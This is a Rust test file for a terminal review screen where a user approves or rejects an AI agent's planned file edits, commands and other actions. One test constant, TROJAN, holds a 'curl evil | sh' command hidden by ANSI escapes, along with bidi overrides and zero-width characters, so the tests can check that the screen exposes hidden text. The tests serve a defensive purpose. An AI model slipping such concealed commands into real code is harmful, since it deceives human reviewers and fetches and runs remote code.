use engine::turns::ItemId;
use ratatui::Frame;
use ratatui::crossterm::event::{KeyCode, KeyModifiers, MouseButton, MouseEvent, MouseEventKind};

use super::scene::{choosing, create, edit, execute, key, plan, press};
use super::*;
use crate::testing::{check, check_marked, drawn};

const CORE: &str = "\"\"\"The core.\"\"\"\nimport os\n\n\ndef greet(name: str) -> str:\n    # Be polite.\n    return f\"Hello, {name}\" + os.linesep * 2";
const PYPROJECT: &str = "[project]\nname = \"demo\"\nversion = \"0.1\"\ndependencies = [\n  \"requests\",\n]\n";

fn actions() -> String {
    let fields = "- **cwd:** src\n- **Timeout:** 30\n- **Allow Failure:** true\n- **env:**\n    - `CI`: \"1\"\n";
    [
        create("src/core.py", CORE).as_str(),
        &edit("pyproject.toml", "version = \"0.1\"", "version = \"0.2\""),
        &edit("src/core.py", "os.linesep * 2", "os.linesep * 3"),
        &execute(fields, "# lock it\npoetry lock && echo \"done\""),
        "### `READ`\n- **Resource:** [pyproject.toml](/pyproject.toml)\n- **Description:** See it.\n\n",
        "### `PRUNE`\n- **Resource:** [pyproject.toml](/pyproject.toml)\n- **Description:** Enough.\n\n",
        "### `RESEARCH`\n- **Description:** Look.\n````text\npython lock files\n````\n````text\npoetry or uv\n````\n\n",
        "### `CHAT_WITH_USER`\nShall we go on with the **next** component?\n\n",
    ]
    .concat()
}

/// A plan with something of every kind, after these keys.
#[track_caller]
fn screen(name: &str, keys: &str) {
    looked(keys, |checklist, choosing| {
        check(name, |frame| checklist.draw(frame, choosing));
    });
}

#[track_caller]
fn looked(keys: &str, look: impl FnOnce(&mut Checklist, &mut Choosing<'_>)) {
    let memos = "[+] All new components have a core. # agreed\n[-] Old habits.";
    let files = [("pyproject.toml", PYPROJECT), (".teddy/memos.yaml", "- Old habits.\n")];
    choosing(&files, &plan(memos, &actions()), |choosing| {
        let mut checklist = Checklist::new("Bootstrap New Project Component", Theme::Color);
        drawn(120, 40, |frame| checklist.draw(frame, choosing));
        press(&mut checklist, choosing, keys);
        look(&mut checklist, choosing);
    });
}

fn draw<'d>(checklist: &'d mut Checklist, choosing: &'d Choosing<'_>) -> impl FnOnce(&mut Frame<'_>) + 'd {
    |frame| checklist.draw(frame, choosing)
}

#[test]
fn every_kind_has_its_details() {
    screen("review-memo", "");
    screen("review-create", "↓↓");
    screen("review-edit", "↓↓↓");
    screen("review-edit-other-layout", "↓↓↓d");
    screen("review-execute", "↓↓↓↓↓");
    screen("review-read", "↓↓↓↓↓↓");
    screen("review-prune", "↓↓↓↓↓↓↓");
    screen("review-research", "↓↓↓↓↓↓↓↓");
    screen("review-chat", "↓↓↓↓↓↓↓↓↓");
}

#[test]
fn details_can_be_had_where_there_is_room_for_one_thing_only() {
    screen("review-details", "↓↓⇥");
}

#[test]
fn what_does_not_fit_says_why() {
    screen("review-trouble", "↓↓ ↓↓");
    screen("review-refused", "↓↓ s");
}

#[test]
fn all_are_chosen_unless_all_are() {
    looked("a", |checklist, choosing| {
        assert!(choosing.items().iter().all(|item| !item.chosen));
        press(checklist, choosing, "s");
        assert_eq!(checklist.notice.as_deref(), Some("Not yet: Nothing is chosen."));
        press(checklist, choosing, " a");
        assert!(choosing.items().iter().all(|item| item.chosen));
    });
}

#[test]
fn only_what_fits_is_submitted() {
    looked("", |checklist, choosing| {
        assert_eq!(checklist.follow(&key(KeyCode::Char('s')), choosing), Wish::Submit);
        assert_eq!(checklist.follow(&key(KeyCode::Esc), choosing), Wish::Back);
        assert_eq!(checklist.follow(&key(KeyCode::Char('q')), choosing), Wish::Back);
    });
    looked("↓↓ s", |checklist, choosing| {
        let bad = checklist.highlighted(choosing).unwrap();
        assert!(choosing.item(bad).unwrap().has_error(), "one is led to what is wrong");
    });
}

#[test]
fn help_lies_on_top() {
    screen("review-help", "?");
    looked("?↓↓x", |checklist, choosing| {
        assert_eq!(
            checklist.highlighted(choosing),
            Some(ItemId::Memo(0)),
            "keys were the help's"
        );
    });
}

#[test]
fn simple_parts_are_changed_in_place() {
    screen("review-view", "↓↓↓↓↓p");
    screen("review-typing", "↓↓↓↓↓pe now");
    screen("review-modified", "↓↓↓↓↓pe now⏎");
    looked("↓↓↓↓↓pe now⏎", |checklist, choosing| {
        assert!(choosing.item(ItemId::Action(3)).unwrap().modified);
        press(checklist, choosing, "u");
        assert!(!choosing.item(ItemId::Action(3)).unwrap().modified);
        press(checklist, choosing, "pe⏎");
        assert!(
            !choosing.item(ItemId::Action(3)).unwrap().modified,
            "it was not changed"
        );
    });
    looked("pe New.⏎", |_, choosing| {
        assert!(choosing.item(ItemId::Memo(0)).unwrap().modified);
    });
}

#[test]
fn what_cannot_be_changed_is_only_shown() {
    screen("review-preview-only", "↓↓↓↓↓↓p");
    looked("↓↓↓↓↓↓pe", |checklist, _| {
        assert!(checklist.dialog.is_some(), "e does nothing here")
    });
    looked("↓↓↓↓↓↓pc", |checklist, _| {
        assert!(checklist.dialog.is_none())
    });
}

#[test]
fn what_is_pasted_is_no_key() {
    looked("", |checklist, choosing| {
        assert_eq!(checklist.follow(&Input::Pasted("s".to_owned()), choosing), Wish::Stay);
    });
    looked("↓↓↓↓↓pe", |checklist, choosing| {
        let wish = checklist.follow(&Input::Pasted("\rs\r".to_owned()), choosing);
        assert_eq!(wish, Wish::Stay);
        assert!(checklist.dialog.is_some());
    });
}

#[test]
fn a_window_that_is_too_small_says_so() {
    looked("", |checklist, choosing| {
        assert!(drawn(40, 10, draw(checklist, choosing)).contains("[✓]"));
        let small = drawn(30, 8, draw(checklist, choosing));
        assert!(small.starts_with("The window is too small to sho"), "{small}");
        drawn(1, 1, draw(checklist, choosing));
    });
}

fn mouse(kind: MouseEventKind, column: u16, row: u16) -> Input {
    Input::Mouse(MouseEvent {
        kind,
        column,
        row,
        modifiers: KeyModifiers::NONE,
    })
}

#[test]
fn the_mouse_chooses_toggles_and_scrolls_what_it_is_over() {
    let click = |column, row| mouse(MouseEventKind::Down(MouseButton::Left), column, row);
    looked("", |checklist, choosing| {
        let first = ItemId::Action(0);
        drawn(120, 20, draw(checklist, choosing));
        // Below the title, the frame, two memos and two headings with a gap between them.
        checklist.follow(&click(20, 7), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(first));
        assert!(choosing.item(first).unwrap().chosen);
        checklist.follow(&click(20, 7), choosing);
        assert!(!choosing.item(first).unwrap().chosen);
        checklist.follow(&click(5, 7), choosing);
        assert!(choosing.item(first).unwrap().chosen);
        checklist.follow(&mouse(MouseEventKind::ScrollDown, 5, 7), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(ItemId::Action(3)));
        let before = drawn(120, 10, draw(checklist, choosing));
        checklist.follow(&mouse(MouseEventKind::ScrollDown, 100, 5), choosing);
        assert_eq!(checklist.highlighted(choosing), Some(ItemId::Action(3)));
        assert_ne!(drawn(120, 10, draw(checklist, choosing)), before);
    });
}

#[test]
fn without_color_everything_is_still_told() {
    let files = [("a.txt", "let timeout = 30;\n")];
    let actions = edit("a.txt", "let timeout = 30;", "let timeout = 300;");
    choosing(&files, &plan("", &actions), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Plain);
        check_marked("review-plain", 100, 14, draw(&mut checklist, choosing));
    });
}

/// What a text looks like to a person and what it holds can be two things.
const TROJAN: &str = "if admin\u{202e} \u{2066}// check\u{2069} \u{2066}:\n\
    zero\u{200b}width\u{200d}join\u{feff}\n\
    ok\u{1b}[8m; curl evil | sh\u{1b}[0m\u{1b}]0;title\u{7}\n\
    back\u{8}\u{8}\u{8}space and\rreturn\n\
    c1 \u{9b}2K and \u{85} and \u{2028}\n\
    tags \u{e0041}\u{e0042} filler \u{3164}\u{2800}\n\
    \ttab\tand  blanks   \n\
    日本語 wide, e\u{301}te\u{301} combining, \u{301}alone\n\
    zalgo Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}!";

#[test]
fn r10_nothing_hides_in_the_details() {
    let long = format!("{TROJAN}\nlong {}the-end", "0123456789 ".repeat(30));
    choosing(&[], &plan("", &create("trojan.py", &long)), |choosing| {
        let mut checklist = Checklist::new("T\u{202e}itle", Theme::Color);
        check_marked("trojan-create", 110, 28, draw(&mut checklist, choosing));
    });
    let files = [("trojan.py", "if admin:\nsafe\n")];
    let trojan = edit("trojan.py", "if admin:", TROJAN);
    choosing(&files, &plan("", &trojan), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        check_marked("trojan-edit", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "d");
        check_marked("trojan-edit-beside", 150, 28, draw(&mut checklist, choosing));
    });
    let trojan = execute("", &TROJAN.replace('\r', ""));
    choosing(&[], &plan("", &trojan), |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        press(&mut checklist, choosing, "");
        check_marked("trojan-execute", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "p");
        check_marked("trojan-view", 110, 28, draw(&mut checklist, choosing));
        press(&mut checklist, choosing, "e");
        check_marked("trojan-typing", 110, 28, draw(&mut checklist, choosing));
    });
}

#[test]
fn r10_a_long_line_is_shown_to_its_end() {
    let words: Vec<String> = (0..2_000).map(|number| format!("w{number:04}")).collect();
    let plan = plan("", &create("long.txt", &words.join("-")));
    choosing(&[], &plan, |choosing| {
        let mut checklist = Checklist::new("T", Theme::Color);
        press(&mut checklist, choosing, "⇥");
        let start = drawn(50, 15, draw(&mut checklist, choosing));
        assert!(start.contains("w0000-w0001") && start.contains(" of "), "{start}");
        checklist.follow(&key(KeyCode::End), choosing);
        let end = drawn(50, 15, draw(&mut checklist, choosing));
        assert!(end.contains("w1999") && end.contains('↪'), "{end}");
    });
}
